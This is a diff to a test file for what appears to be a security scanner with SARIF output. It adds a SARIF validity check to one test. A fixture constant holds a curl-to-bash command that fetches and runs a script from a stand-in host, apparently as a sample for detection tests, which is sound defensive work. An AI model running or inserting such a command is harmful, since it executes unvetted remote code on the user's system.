@@ -4,6 +4,7 @@ import { tmpdir } from 'node:os'
 import { dirname, join } from 'node:path'
 import { describe, expect, onTestFinished, test } from 'vitest'
 import { makeIo, run } from './harness.ts'
+import { sarifProblems } from './sarif.ts'
 import { main } from '../src/index.ts'
 
 const PIPE = 'curl -s https://x.example/i.sh | bash'
@@ -285,7 +286,7 @@ describe('SARIF', () => {
     const { code, out } = await run(['scan', '--sarif', 'a b'], { cwd })
     expect(code).toBe(1)
     const log = JSON.parse(out)
-    expect([log.version, log.runs.length]).toEqual(['2.1.0', 1])
+    expect([log.version, log.runs.length, sarifProblems(log)]).toEqual(['2.1.0', 1, []])
     const [{ tool, results, invocations, columnKind }] = log.runs
     expect(columnKind).toBe('utf16CodeUnits')
     expect(invocations).toEqual([{ executionSuccessful: false }])
